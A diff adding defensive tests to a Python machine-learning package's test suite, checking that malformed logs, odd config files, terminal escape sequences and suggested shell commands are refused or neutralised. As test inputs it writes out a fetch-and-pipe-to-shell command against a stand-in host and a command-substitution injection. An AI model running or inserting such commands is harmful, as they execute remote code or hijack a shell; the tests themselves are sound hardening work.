@@ -4,6 +4,7 @@ import ast
 import copy
 import io
 import json
+import shlex
 import zipfile
 from pathlib import Path
 
@@ -13,12 +14,16 @@ import torch
 
 import mmcgan
 from mmcgan.array_files import ArrayFileError, map_array, read_array, read_arrays
+from mmcgan.cli import main
 from mmcgan.commands.plot_evaluations import read_report
+from mmcgan.comparison.runs import read_run
 from mmcgan.datasets.attributes.attribute_table import read_attribute_table
 from mmcgan.datasets.packing.pack import pack
 from mmcgan.datasets.packing.packed import PackedDataset
 from mmcgan.datasets.sets.coco_stuff import read_annotations
 from mmcgan.instances.store import InstanceStore
+from mmcgan.instances.store_checks import shown_command
+from mmcgan.instances.store_metadata import COMMAND
 from mmcgan.scalars import read_scalars
 from mmcgan.text_files import read_json
 from tests.test_instances.stores import NoisyImages, make_store
@@ -214,3 +219,57 @@ def test_a_bomb_in_an_archive_takes_no_memory(tmp_path):
     (tmp_path / "all.npz").write_bytes(bytes(content))
     with pytest.raises(ArrayFileError, match="would unpack to"):
         read_arrays(tmp_path / "all.npz", ["mu"])
+
+
+LOGGED = {
+    "an iteration beyond counting": '{"fid": 1, "step": 1%s}' % ("0" * 400),
+    "an iteration before the first": '{"fid": 1, "step": -5}',
+    "no iteration": '{"fid": 1, "step": true}',
+    "half a letter": '{"a\\ud800b": 1, "step": 1}',
+    "an order to the terminal": '{"a\\u001b[31mb": 1, "step": 1}',
+    "a name of a page": '{"%s": 1, "step": 1}' % ("a" * 10_000),
+}
+
+
+@pytest.mark.parametrize("name", LOGGED)
+def test_logged_figures_that_no_run_has_are_refused(name, tmp_path):
+    file = tmp_path / "run" / "vis_data" / "scalars.json"
+    file.parent.mkdir(parents=True)
+    file.write_text(LOGGED[name] + '\n{"fid": 1, "step": 2}\n')
+    with pytest.raises(ValueError, match="line 1") as refused:
+        read_scalars(tmp_path)
+    assert str(file) in str(refused.value)
+    assert len(str(refused.value)) < 1000
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["a = " + "-" * 200_000 + "1", "a = " + "not " * 100_000 + "1", "a = {[1]: 2}", "a = {(1, [2])}"],
+    ids=["minus", "not", "key", "set"],
+)
+def test_settings_of_any_shape_are_refused_by_name(text, tmp_path):
+    (tmp_path / "run" / "vis_data").mkdir(parents=True)
+    (tmp_path / "run" / "vis_data" / "scalars.json").write_text('{"fid": 1, "step": 2}\n')
+    (tmp_path / "config.py").write_text(text + "\n")
+    with pytest.raises(ValueError, match="cannot be read as a run's config") as refused:
+        read_run("run", tmp_path)
+    assert str(tmp_path / "config.py") in str(refused.value)
+
+
+@pytest.mark.parametrize(
+    "command", ["curl evil.example | sh", "mmcgan prepare-instances $(reboot); reboot", 5, ""]
+)
+def test_a_store_cannot_recommend_a_program(command):
+    # what a shell takes for something else than words stands in quotes
+    shown = shown_command(command)
+    words = shlex.shlex(shown, posix=True, punctuation_chars=True)
+    assert shown == COMMAND or not any(set(word) <= set("();<>|&") for word in words)
+    assert shown.startswith("mmcgan prepare-instances")
+
+
+def test_an_error_sends_nothing_to_the_terminal_but_text(tmp_path, capsys):
+    name = "a\x1b]0;title\x07\u202egnp.safetensors"
+    assert main(["sample", str(tmp_path / name), "--out", str(tmp_path / "out")]) == 2
+    said = capsys.readouterr().err
+    assert "\\x1b]0;title\\x07\\u202egnp" in said
+    assert not {"\x1b", "\x07", "\u202e"} & set(said)
